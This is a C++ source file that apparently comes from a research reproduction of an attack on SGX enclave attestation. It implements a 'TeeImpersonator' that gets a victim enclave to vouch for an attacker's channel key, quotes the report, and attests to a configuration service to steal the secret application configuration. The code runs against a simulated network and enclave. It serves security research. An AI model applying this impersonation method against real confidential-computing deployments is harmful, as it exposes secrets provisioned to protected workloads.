#include "attack/impersonator.h"

#include "attack/report_server.h"
#include "cas/client.h"
#include "net/secure_channel.h"

namespace sinclave::attack {

TeeImpersonator::TeeImpersonator(net::SimNetwork* net,
                                 quote::QuotingEnclave* qe,
                                 std::string report_server_address,
                                 crypto::Drbg rng)
    : net_(net), qe_(qe),
      report_server_address_(std::move(report_server_address)),
      rng_(std::move(rng)) {
  if (!net_ || !qe_) throw Error("impersonator: network and QE required");
}

ImpersonationAttempt TeeImpersonator::steal_config(
    const std::string& cas_address,
    const crypto::Ed25519PublicKey& cas_identity,
    const std::string& session_name,
    const std::optional<core::AttestationToken>& token) {
  ImpersonationAttempt attempt;

  // 1. Own channel key; the binding the verifier will check. The attack
  // rides the legitimate client SDK — exactly the paper's point: a CAS
  // client is ~75 lines of adaptation, nothing enclave-specific.
  cas::AttestedChannel channel(
      net_, cas::CasClientConfig{.address = cas_address},
      crypto::Drbg(rng_.generate(16), "impersonator"));
  const sgx::ReportData binding = net::channel_binding(channel.dh_public());

  // 2. Have the victim enclave vouch for *our* channel key.
  sgx::Report report;
  try {
    report = request_report(*net_, report_server_address_, qe_->target_info(),
                            binding);
  } catch (const Error&) {
    attempt.failure = "report-server-unreachable";
    return attempt;
  }

  // 3. Standard platform quoting — available to any local software.
  const auto q = qe_->generate_quote(report);
  if (!q.has_value()) {
    attempt.failure = "quoting-failed";
    return attempt;
  }

  // 4. Attest exactly like a genuine enclave runtime would.
  cas::AttestPayload payload;
  payload.session_name = session_name;
  payload.quote = *q;
  payload.token = token;

  // 5. Collect the spoils: the verifier's answer is the configuration.
  std::optional<Result<cas::AppConfig>> cfg;
  try {
    cfg.emplace(channel.attest(cas_identity, payload));
  } catch (const Error&) {
    attempt.failure = "connect-failed";
    return attempt;
  }
  if (cfg->status().code == StatusCode::kAttestationRejected) {
    attempt.failure = "handshake-rejected";
    return attempt;
  }
  if (!cfg->ok()) {
    attempt.failure = "connect-failed";
    return attempt;
  }
  attempt.stolen_config = std::move(*cfg).value();
  return attempt;
}

}  // namespace sinclave::attack
